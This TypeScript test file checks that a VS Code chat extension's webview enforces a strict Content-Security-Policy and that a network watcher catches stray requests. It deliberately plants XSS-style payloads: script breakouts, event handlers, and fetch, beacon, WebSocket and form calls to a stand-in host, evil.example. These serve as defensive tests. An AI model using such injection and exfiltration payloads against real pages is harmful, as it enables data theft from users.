import assert from "node:assert/strict";
import type * as vscode from "vscode";
import { pageHtml, pageOptions, readPageCode } from "../../../src/features/chat/editor/pageHtml";
import { entriesAbout, launchChromium } from "../../support/chromium";
import { openPage } from "../../support/pageHarness";
import { answered, chat } from "./fixtures";
import { strangers } from "./expectedContent";
import { useChromium } from "./suite";

/** What a payload would do if it became markup, and which parts of it the policy itself forbids. */
const planted: [name: string, markup: string, forbidden: RegExp][] = [
  ["an image", `<img src="https://evil.example/i.png">`, /img-src/],
  ["an image of the page's own origin", `<img src="/x.png">`, /img-src/],
  ["a picture set", `<img srcset="https://evil.example/a 1x">`, /img-src/],
  ["a data image", `<img src="data:image/png;base64,AA">`, /img-src/],
  ["a video", `<video src="https://evil.example/v"></video>`, /media-src|default-src/],
  ["a style sheet", `<link rel="stylesheet" href="https://evil.example/s.css">`, /style-src/],
  ["an inline style sheet", `<style>body { color: red }</style>`, /style-src/],
  ["a style attribute", `<p style="color: red">x</p>`, /style-src/],
  ["a frame", `<iframe src="https://evil.example/"></iframe>`, /frame-src/],
  ["an object", `<object data="https://evil.example/o"></object>`, /object-src|default-src/],
  ["a handler", `<svg onload="globalThis.pwned = 1"></svg>`, /script-src/],
  ["a base", `<base href="https://evil.example/">`, /base-uri/],
  ["a prefetch", `<link rel="prefetch" href="https://evil.example/f">`, /prefetch-src|default-src/],
  ["a manifest", `<link rel="manifest" href="https://evil.example/m">`, /manifest-src|default-src/],
];

const statements: [name: string, code: string, forbidden: RegExp][] = [
  ["eval", "try { eval('globalThis.pwned = 1') } catch {}", /script-src/],
  ["a Function", "try { new Function('globalThis.pwned = 1')() } catch {}", /script-src/],
  ["fetch", "fetch('https://evil.example/x').catch(() => {})", /connect-src/],
  ["a beacon", "navigator.sendBeacon('https://evil.example/b')", /connect-src/],
  ["a socket", "try { new WebSocket('wss://evil.example/') } catch {}", /connect-src/],
  ["a worker", "try { new Worker('/dist/webview/page.js') } catch {}", /worker-src|script-src/],
  [
    "a script without the nonce",
    "document.body.append(Object.assign(document.createElement('script'), { textContent: 'globalThis.pwned = 1' }))",
    /script-src/,
  ],
  [
    "a form",
    "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://evil.example/\"><input name=a></form>'); document.querySelector('form').submit()",
    /form-action/,
  ],
];

describe("the page's policy", () => {
  const { open } = useChromium({ whole: true });

  it("W7 allows its own script by a fresh nonce of 128 bits, its own style, and nothing else", async () => {
    const nonces = new Set<string>();
    for (let load = 0; load < 50; load++) {
      const html = pageHtml({ script: "go();", style: "p{}" }, "https://cdn.example/page");
      const [, policy = ""] =
        /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html) ?? [];
      const [, nonce = ""] = /'nonce-([^']+)'/.exec(policy) ?? [];
      assert.equal(Buffer.from(nonce, "base64").length, 16);
      assert.match(nonce, /^[\w+/]{22}==$/);
      nonces.add(nonce);
      assert.deepEqual(policy.split("; ").toSorted(), [
        "base-uri 'none'",
        "connect-src 'none'",
        "default-src 'none'",
        "form-action 'none'",
        "frame-src 'none'",
        "img-src 'none'",
        `script-src 'nonce-${nonce}'`,
        `style-src 'nonce-${nonce}'`,
      ]);
      // The policy precedes everything that it applies to, and the document contains nothing else.
      assert.deepEqual(
        [...html.matchAll(/<(\w+)[^>]*?(?:href|src|charset|http-equiv|name)?>/g)].map(
          ([, tag]) => tag,
        ),
        [
          "html",
          "head",
          "meta",
          "meta",
          "meta",
          "style",
          "script",
          "title",
          "body",
          "div",
          "script",
        ],
      );
      assert.doesNotMatch(html, /(?:href|src)=/);
      assert.deepEqual(
        [...html.matchAll(/"(https?:[^"]*)"/g)].map(([, address]) => address),
        ["https://cdn.example/page/"],
      );
    }
    assert.equal(nonces.size, 50);
  });

  it("W7 passes translations as data that ends nothing and runs nowhere", () => {
    const messages = { Stop: "</script><script>alert(1)</script><!--" };
    const html = pageHtml({ script: "", style: "" }, "https://cdn.example/page", {
      language: 'de"><script>',
      messages,
    });
    assert.match(html, /<html lang="descript">/);
    const [, data = ""] =
      /<script type="application\/json" id="messages">([^<]*)<\/script>/.exec(html) ?? [];
    assert.deepEqual(JSON.parse(data), messages);
    assert.equal(html.match(/<script/g)?.length, 3);
  });

  it("W7 holds nothing in its code that would end the element it stands in", () => {
    const { script, style } = readPageCode("dist/webview");
    assert.ok(script.length > 10_000 && style.length > 1_000);
    assert.doesNotMatch(script, /<\/script|<script|<!--/i);
    assert.doesNotMatch(style, /<\//);
  });

  it("W7 gives the page its own folder, and neither forms, command links nor ports", () => {
    const folder = { path: "/extension/dist/webview" } as vscode.Uri;
    assert.deepEqual(pageOptions(folder), {
      enableScripts: true,
      enableForms: false,
      enableCommandUris: false,
      localResourceRoots: [folder],
    });
  });

  it("W7 loads under another nonce each time", async () => {
    const nonces = new Set<string>();
    for (let load = 0; load < 3; load++) {
      const { page, close } = await open(chat([]), { alone: true });
      nonces.add(
        await page.evaluate(
          () => document.querySelector<HTMLScriptElement>("script[type=module]")?.nonce ?? "",
        ),
      );
      await close();
    }
    assert.equal(nonces.size, 3);
    assert.ok(!nonces.has(""));
  });

  it("W7 keeps markup and code that got in all the same from loading, running and sending", async () => {
    const opened = await open(chat([answered("x")]), { alone: true });
    const { page, errors } = opened;
    const violation = async (name: string, forbidden: RegExp) => {
      const said = new RegExp(`policy violation: (?:${forbidden.source})`);
      for (let wait = 0; !errors.some((error) => said.test(error)); wait++) {
        assert.ok(wait < 100, `${name} was let through: ${errors.join()}`);
        await page.waitForTimeout(20);
      }
      errors.length = 0;
    };
    for (const [name, markup, forbidden] of planted) {
      const place = /^<(?:link|base|style)/.test(markup) ? "head" : "body";
      await page.evaluate(
        ({ place, markup }) =>
          document.querySelector(place)?.insertAdjacentHTML("beforeend", markup),
        { place, markup },
      );
      await violation(name, forbidden);
      // The test sees what was injected, whatever the policy makes of it.
      if (place === "head") assert.notDeepEqual(await strangers(opened), [], name);
    }
    for (const [name, code, forbidden] of statements) {
      // As a script of the page itself would, not with the debugger's privileges.
      await page.evaluate((code) => {
        const script = document.createElement("script");
        script.nonce =
          document.querySelector<HTMLScriptElement>("script[type=module]")?.nonce ?? "";
        // Later, because the debugger allows eval while it runs.
        script.textContent = `setTimeout(() => { ${code} })`;
        document.head.append(script);
      }, code);
      await violation(name, forbidden);
    }
    assert.equal(await page.evaluate("globalThis.pwned"), undefined);
    assert.ok(page.url().includes("127.0.0.1"));
  });
});

/** Of the browser's network log. */
const entry = (type: number) =>
  `{"params":{"address":"127.0.0.1:36647"},"phase":0,"source":{"id":1,"type":24},"time":"4","type":${type}},`;

describe("the watch over the page's network", () => {
  it("takes a connection for one, and not a port of the browser's own with the same number", () => {
    const types = `"logEventTypes":{"TCP_CONNECT_ATTEMPT":57,"UDP_LOCAL_ADDRESS":97}`;
    const log = [`{"constants":{${types}},`, `"events": [`, entry(97), entry(57)].join("\n");
    assert.deepEqual(entriesAbout(log, "127.0.0.1:36647"), [entry(57)]);
    assert.deepEqual(entriesAbout(log, "127.0.0.1:36648"), []);
  });

  it("W1 W3 sees what is asked for, connected to, looked up ahead, opened and navigated to", async () => {
    // Its own, because it navigates away.
    const chromium = await launchChromium();
    try {
      const opened = await openPage(chromium, { answer: () => chat([answered("x")]) });
      await opened.page.locator(".turn").waitFor();
      const plant = (markup: string) =>
        opened.page.evaluate(
          (markup) => document.head.insertAdjacentHTML("beforeend", markup),
          markup,
        );
      assert.deepEqual([await chromium.strayed(), chromium.trapped, opened.requests], [[], [], []]);

      await plant(`<img src="/x"><img src="https://evil.example/x">`);
      await until(() => opened.requests.length === 2, "requests");

      await plant(`<link rel="dns-prefetch" href="//looked-up.example">`);
      const looked = async () => (await chromium.strayed()).length;
      await until(async () => (await looked()) > 0, "a lookup");
      assert.equal(chromium.trapped.length, 0);

      await plant(`<link rel="preconnect" href="https://connected.example">`);
      await until(
        () => chromium.trapped.some((bytes) => bytes.includes("connected.example")),
        "a connection",
      );

      await opened.page.evaluate(() => void window.open("https://opened.example/"));
      await until(() => opened.errors.some((error) => error.startsWith("opened")), "a window");
    } finally {
      await chromium.close();
    }
  });
});

async function until(holds: () => boolean | Promise<boolean>, name: string): Promise<void> {
  for (let tries = 0; !(await holds()); tries++) {
    assert.ok(tries < 200, `never saw ${name}`);
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
}
